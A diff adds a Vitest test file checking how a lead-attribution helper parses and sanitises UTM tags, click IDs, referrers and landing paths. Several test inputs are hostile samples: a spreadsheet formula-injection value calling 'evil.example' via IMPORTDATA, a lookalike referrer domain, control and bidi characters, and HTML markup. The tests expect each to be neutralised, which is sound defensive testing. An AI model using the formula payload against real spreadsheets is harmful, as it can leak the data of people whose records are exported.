@@ -1,0 +1,60 @@
+import { describe, expect, it } from 'vitest'
+import { attributionOf, readAttribution } from '@/lib/leads/shared/attribution'
+
+describe('where a visit came from', () => {
+  it('is read off its first address and the page before', () => {
+    const address = new URL(
+      'https://px.example/book-demo?utm_source=flyer&gclid=g1&name=Ana&services=chat-agent',
+    )
+    expect(attributionOf(address, 'https://search.example/q')).toEqual({
+      utm_source: 'flyer',
+      gclid: 'g1',
+      referrer: 'https://search.example/q',
+      landing_path: '/book-demo',
+    })
+  })
+
+  it('is read off the page before where the visit went on before its first page could note it', () => {
+    const address = new URL('https://px.example/book-demo')
+    expect(attributionOf(address, 'https://px.example/?utm_source=flyer')).toEqual({
+      utm_source: 'flyer',
+      landing_path: '/',
+    })
+    expect(attributionOf(address, 'https://px.example.evil/?utm_source=no')).toEqual({
+      referrer: 'https://px.example.evil/?utm_source=no',
+      landing_path: '/book-demo',
+    })
+  })
+
+  it('is cleaned like other text', () => {
+    const sent = {
+      utm_source: ' fly\u0000er\u202e\n ',
+      utm_term: '=IMPORTDATA("http://evil.example")',
+      referrer: 'https://search.example/?q=<b>',
+      landing_path: `/${'a'.repeat(299)}😀`.slice(0, -1),
+    }
+    expect(readAttribution(JSON.stringify(sent))).toEqual({
+      utm_source: 'flyer',
+      utm_term: `'=IMPORTDATA("http://evil.example")`,
+      referrer: 'https://search.example/?q=b',
+      landing_path: `/${'a'.repeat(299)}`,
+    })
+  })
+
+  it('is bounded, whatever arrives', () => {
+    const sent = {
+      utm_source: 'x'.repeat(999),
+      fbclid: 'f',
+      evil: 'y',
+      referrer: 7,
+      landing_path: '/',
+    }
+    expect(readAttribution(JSON.stringify(sent))).toEqual({
+      utm_source: 'x'.repeat(300),
+      fbclid: 'f',
+      landing_path: '/',
+    })
+    for (const none of [undefined, null, 7, '', 'x', 'null', '[]', '{"a":"b"}'])
+      expect(readAttribution(none)).toBeUndefined()
+  })
+})
